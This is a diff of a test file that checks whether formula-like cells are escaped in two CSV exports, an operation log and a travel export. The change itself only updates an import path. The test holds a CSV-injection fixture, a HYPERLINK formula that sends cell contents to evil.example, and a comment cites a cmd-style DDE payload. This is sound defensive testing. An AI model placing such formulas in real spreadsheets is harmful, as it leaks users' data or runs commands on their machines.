@@ -1,7 +1,7 @@
 // Issue 38, finding 6: a cell a spreadsheet reads as a formula is written with a leading ' in both CSV exports
 // (操作日志 and 出差导出), so =HYPERLINK(…) or @SUM(…)*cmd|… stays text in Excel (OWASP's CSV injection advice).
 import { operationLogCsv } from '../../../application/admin/operation-log';
-import { travelCsv } from '../../../application/approvals/travel-export';
+import { travelCsv } from '../../../application/export/travel-export';
 import { csvText } from '../../../application/shell/csv-text';
 
 const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"点击查看")';
